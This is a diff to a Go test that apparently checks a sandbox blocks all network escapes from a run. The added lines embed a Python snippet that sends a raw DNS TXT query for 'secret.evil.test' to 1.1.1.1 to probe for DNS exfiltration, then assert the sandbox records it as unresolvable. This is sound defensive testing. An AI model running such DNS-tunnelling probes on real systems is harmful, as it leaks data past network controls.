@@ -50,11 +50,19 @@ func TestNoWayOutOfARun(t *testing.T) {
 	}
 	all := strings.Join(ways, "\n")
 	stdout, stderr, err := r.StartRun(t, nil, nil,
-		`/usr/bin/python3 -c "$0" "$1"; curl -sS -o /dev/null -w '%{http_code}\n' "https://$2/repos/acme/site"`,
+		`/usr/bin/python3 -c "$0" "$1"; /usr/bin/python3 -c 'import socket
+for i in range(2):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\x10\0\1", ("1.1.1.1", 53))
+    s.recv(512)'; curl -sS -o /dev/null -w '%{http_code}\n' "https://$2/repos/acme/site"`,
 		tryWays, all, r.Plain())
 	if err != nil || strings.Contains(stdout, "OPEN") || strings.Count(stdout, "closed ") != len(ways) ||
 		!strings.HasSuffix(stdout, "\n200\n") {
 		t.Errorf("%v\n%s%s", err, stdout, stderr)
+	}
+	if told := r.RecordsOf(t, "", "upstream_unresolvable"); len(told) != 1 ||
+		!strings.Contains(told[0].Reason, `"secret.evil.test.", type TXT`) {
+		t.Errorf("recorded of a query: %+v", told)
 	}
 	outside, err := exec.Command("/usr/bin/python3", "-c", tryWays, all).Output()
 	check.Must(t, err)
